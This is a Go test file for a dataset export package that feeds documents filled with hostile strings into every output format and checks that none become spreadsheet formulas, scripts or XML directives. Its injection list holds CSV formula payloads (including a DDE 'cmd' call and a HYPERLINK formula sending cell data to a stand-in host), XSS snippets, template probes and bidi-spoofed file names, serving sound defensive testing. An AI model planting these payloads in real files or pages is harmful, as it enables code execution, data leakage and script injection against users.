package dataset

import (
	"archive/zip"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"github.com/onrecord/onrecord/store/corpus"
)

// injections are texts that do harm where a program takes them for more than text. Control characters that XML forbids are
// no part of any text here; see corpus.CheckText.
var injections = []string{
	`=cmd|'/c calc'!A0`, `=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+cmd|x", "-2+3+cmd|x", "@SUM(1+9)*cmd|x", "\t=1+1", "\n=1+1", "'=1+1", "''@x", "＝1+1", "＋1", "－1", "＠x",
	`";=1+1;"`, `",=1+1,"`, "a,=1+1", "a;=1+1", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, "</style><script>alert(1)</script>",
	"<!--", "-->", "]]>", "<![CDATA[", "<?php ?>", "&lt;script&gt;", "&#x3c;b&#x3e;", "{{7*7}}", "${7*7}", "javascript:alert(1)", "data:text/html,<script>x</script>", `\u003cscript\u003e`,
	"\u202Egnp.exe\u202C", "\u2066x\u2069", "\u200F", "\u2028", "\u0085", "\x7f", "\u009b31m", "_x003C_", `"`, `""`, "'", "`", `\`, "%00", "\u00A0=1",
}

// injectedDocument is a document in which all that people write is hostile.
func injectedDocument(r *rand.Rand) corpus.Document {
	bad := func() string { return choose(r, injections...) }
	d := randomDocument(r)
	a := &d.Article
	a.Title, a.Byline, a.Outlet, a.Credit, a.URL, a.Language = bad(), bad(), bad(), bad(), bad(), bad()
	a.Zones = nil
	var text strings.Builder
	var places []corpus.Range
	for _, n := range r.Perm(len(injections)) {
		start := text.Len()
		text.WriteString(injections[n])
		places = append(places, corpus.Range{Start: start, End: text.Len()})
		text.WriteString(choose(r, "\n", " ", "\n\n"))
	}
	a.Text = text.String()
	renamed := map[string]string{}
	for i, p := range d.Annotators {
		renamed[p.Name] = fmt.Sprint(bad(), i)
		d.Annotators[i].Name = renamed[p.Name]
	}
	for i := range d.Entities {
		e := &d.Entities[i]
		e.Name, e.Role, e.Affiliation, e.Note, e.Aliases = bad(), bad(), bad(), bad(), []string{bad(), bad()}
		e.External = map[string]string{bad(): bad()}
	}
	for i := range d.Spans {
		s := &d.Spans[i]
		s.Fragments = []corpus.Range{places[i]}
		s.Quote, s.Annotator, s.Note, s.Attributes = corpus.Quote(a.Text, s.Fragments), renamed[s.Annotator], bad(), corpus.Attributes{bad(): {bad()}}
	}
	for i := range d.Attributions {
		f := &d.Attributions[i]
		f.Annotator, f.Note, f.Attributes = renamed[f.Annotator], bad(), corpus.Attributes{bad(): {bad(), bad()}}
	}
	addReview(r, &d, bad)
	d.Sort()
	return d
}

// TestInjection writes hostile documents in every format, plain and in all that a spreadsheet, a browser or an XML reader
// would take, reads the files with other parsers than those that wrote them, and has everything come back unchanged.
func TestInjection(t *testing.T) {
	for _, f := range Formats() {
		if !f.Writable() {
			continue
		}
		t.Run(f.Name, func(t *testing.T) {
			r := rand.New(rand.NewPCG(6, 66))
			var documents []corpus.Document
			for range 25 {
				documents = append(documents, injectedDocument(r))
			}
			book := testCodebook()
			book.Name = `=1+1</title><script>alert("]]>")</script>`
			target := filepath.Join(t.TempDir(), "out"+f.Extension)
			report, err := Export(t.Context(), from(documents...), f, target, Options{Codebook: book})
			if err != nil {
				t.Fatal(err)
			}
			if f.Readable() && !report.Verified {
				t.Error("the output was not read back")
			}
			for _, lost := range report.Lost[:min(len(report.Lost), 10)] {
				t.Errorf("%s: %s", lost.Article, lost.What)
			}
			for _, path := range outputs(t, target) {
				checkHarmlessFile(t, path)
			}
		})
	}
}

// outputs are the files of an export.
func outputs(t *testing.T, target string) []string {
	t.Helper()
	if info, err := os.Stat(target); err != nil || !info.IsDir() {
		return []string{target}
	}
	names, err := filesIn(target)
	if err != nil || len(names) == 0 {
		t.Fatalf("%s has %d files, %v", target, len(names), err)
	}
	for i, name := range names {
		names[i] = filepath.Join(target, filepath.FromSlash(name))
	}
	return names
}

// checkHarmlessFile reads a file as the program does that its ending belongs to.
func checkHarmlessFile(t *testing.T, path string) {
	t.Helper()
	switch filepath.Ext(path) {
	case ".xlsx":
		checkHarmlessWorkbook(t, path)
		return
	case ".qdpx":
		checkArchivedXML(t, path)
		return
	case ".parquet":
		return // binary, and no program runs what is in it
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	switch filepath.Ext(path) {
	case ".csv":
		for n, row := range cellsOf(t, path, string(data)) {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) && !isNumber(cell) {
					t.Errorf("%s, row %d: a spreadsheet would run the cell %q", filepath.Base(path), n+1, cell)
				}
			}
		}
	case ".html":
		page, err := html.Parse(strings.NewReader(string(data)))
		if err != nil {
			t.Fatal(err)
		}
		checkHarmless(t, elements(page))
	case ".xml", ".xmi", ".tei":
		checkXML(t, path, strings.NewReader(string(data)))
	case ".json", ".jsonld":
		if !json.Valid(data) {
			t.Errorf("%s is no JSON", path)
		}
	case ".jsonl":
		for line := range strings.Lines(string(data)) {
			if !json.Valid([]byte(line)) {
				t.Errorf("%s has a line that is no JSON: %.100s", path, line)
			}
		}
	}
}

// isNumber tells a number as the tables write them, which a spreadsheet takes for nothing else.
func isNumber(cell string) bool {
	return !strings.ContainsFunc(cell, func(r rune) bool { return !strings.ContainsRune("0123456789.-e+", r) }) && strings.ContainsAny(cell, "0123456789")
}

// cellsOf parses CSV by RFC 4180, one character after the other.
func cellsOf(t *testing.T, path, text string) (rows [][]string) {
	t.Helper()
	var row []string
	var cell strings.Builder
	quoted, was := false, false // inside quotation marks; the cell began with one
	for i := 0; i < len(text); i++ {
		switch c := text[i]; {
		case quoted && c == '"' && i+1 < len(text) && text[i+1] == '"':
			cell.WriteByte('"')
			i++
		case quoted && c == '"':
			quoted = false
		case quoted:
			cell.WriteByte(c)
		case c == '"' && cell.Len() == 0 && !was:
			quoted, was = true, true
		case c == ',' || c == '\n':
			row = append(row, cell.String())
			cell.Reset()
			was = false
			if c == '\n' {
				rows = append(rows, row)
				row = nil
			}
		case was || c == '"' || c == '\r':
			t.Fatalf("%s, byte %d: %q stands where a cell must end or begin", path, i, c)
		default:
			cell.WriteByte(c)
		}
	}
	if quoted || cell.Len() > 0 || len(row) > 0 {
		t.Fatalf("%s: the last row does not end", path)
	}
	for n, r := range rows {
		if len(r) != len(rows[0]) {
			t.Fatalf("%s, row %d: %d cells, the header has %d", path, n+1, len(r), len(rows[0]))
		}
	}
	return rows
}

// checkHarmlessWorkbook wants text, numbers and truth values only.
func checkHarmlessWorkbook(t *testing.T, path string) {
	t.Helper()
	book, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	seen := map[string]bool{}
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, value := range row {
				cell, err := excelize.CoordinatesToCellName(x+1, y+1)
				if err != nil {
					t.Fatal(err)
				}
				formula, err1 := book.GetCellFormula(sheet, cell)
				linked, _, err2 := book.GetCellHyperLink(sheet, cell)
				kind, err3 := book.GetCellType(sheet, cell)
				if err := errors.Join(err1, err2, err3); err != nil || formula != "" || linked || kind == excelize.CellTypeFormula || kind == excelize.CellTypeError {
					t.Errorf("%s!%s: formula %q, link %t, kind %v, %v", sheet, cell, formula, linked, kind, err)
				}
				seen[value] = true
			}
		}
	}
	for _, text := range injections {
		if !seen[text] {
			t.Errorf("no cell has the text %q as it is", text)
		}
	}
	checkArchivedXML(t, path)
}

// checkArchivedXML reads the XML files in a zip file.
func checkArchivedXML(t *testing.T, path string) {
	t.Helper()
	archive, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	for _, part := range archive.File {
		if ending := filepath.Ext(part.Name); ending == ".xml" || ending == ".rels" || ending == ".qde" {
			in, err := part.Open()
			if err != nil {
				t.Fatal(err)
			}
			checkXML(t, part.Name, in)
		}
	}
}

// checkXML wants well-formed XML in which no text has become an element, an instruction or a document type.
func checkXML(t *testing.T, name string, in io.Reader) {
	t.Helper()
	d := xml.NewDecoder(in)
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		switch token := token.(type) {
		case xml.StartElement:
			if slices.Contains([]string{"script", "img", "f"}, strings.ToLower(token.Name.Local)) {
				t.Errorf("%s has an element <%s>", name, token.Name.Local)
			}
		case xml.ProcInst:
			if token.Target == "php" {
				t.Errorf("%s has an instruction <?php", name)
			}
		case xml.Directive:
			t.Errorf("%s has a directive %.40s", name, token)
		}
	}
}

// TestGuardsAreUndone: every cell, guarded or not, comes back as it was.
func TestGuardsAreUndone(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for range 20_000 {
		var cell strings.Builder
		for range r.IntN(5) {
			cell.WriteString(choose(r, "'", "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "a", " ", "1", "é", "\u2028"))
		}
		guarded := harmless(cell.String())
		if got := unguarded(guarded); got != cell.String() {
			t.Fatalf("%q is written as %q and comes back as %q", cell.String(), guarded, got)
		}
		if first := []rune(guarded + " ")[0]; strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) {
			t.Fatalf("%q is written as %q", cell.String(), guarded)
		}
	}
}
